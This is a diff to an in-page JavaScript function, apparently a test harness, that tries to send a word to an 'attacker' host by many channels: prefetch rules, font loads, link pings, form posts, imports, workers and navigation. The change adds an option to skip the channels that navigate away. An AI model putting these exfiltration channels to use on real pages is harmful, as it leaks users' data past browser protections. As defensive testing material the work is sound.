@@ -1,5 +1,6 @@
-// Tries to get a word out of a page in every way that a script has. Run in the page.
-async ({ attacker, word }) => {
+// Tries to get a word out of a page in every way that a script has, or in those alone that leave the page where it is: led away, a
+// page may drop what it has just asked for. Run in the page.
+async ({ attacker, word, stays = false }) => {
   const tried = [];
   const attempt = async (name, act) => {
     try {
@@ -32,10 +33,11 @@ async ({ attacker, word }) => {
     await attempt(`prerender ${where}`, () => added("script", { type: "speculationrules" }).append(`{"prefetch":[{"source":"list","urls":["${url("rules")}"]}]}`));
     await attempt(`font ${where}`, () => new FontFace("x", `url(${url("font")})`).load());
     await attempt(`ping ${where}`, () => added("a", { href: "#here", ping: url("ping") }).click());
-    await attempt(`form ${where}`, () => { const form = added("form", { action: url("form"), method: "post" }); form.append(added("input", { name: "n", value: word })); form.submit(); });
+    if (!stays) await attempt(`form ${where}`, () => { const form = added("form", { action: url("form"), method: "post" }); form.append(added("input", { name: "n", value: word })); form.submit(); });
     await attempt(`import ${where}`, () => import(url("import")));
     await attempt(`worker ${where}`, () => new Worker(url("worker")));
   }
+  if (stays) return tried;
   await attempt("open", () => window.open(`${attacker}/leak-open?name=${word}`));
   await attempt("assign", () => location.assign(`${attacker}/leak-assign?name=${word}`));
   await attempt("replace", () => location.replace(`${attacker}/leak-replace?name=${word}`));
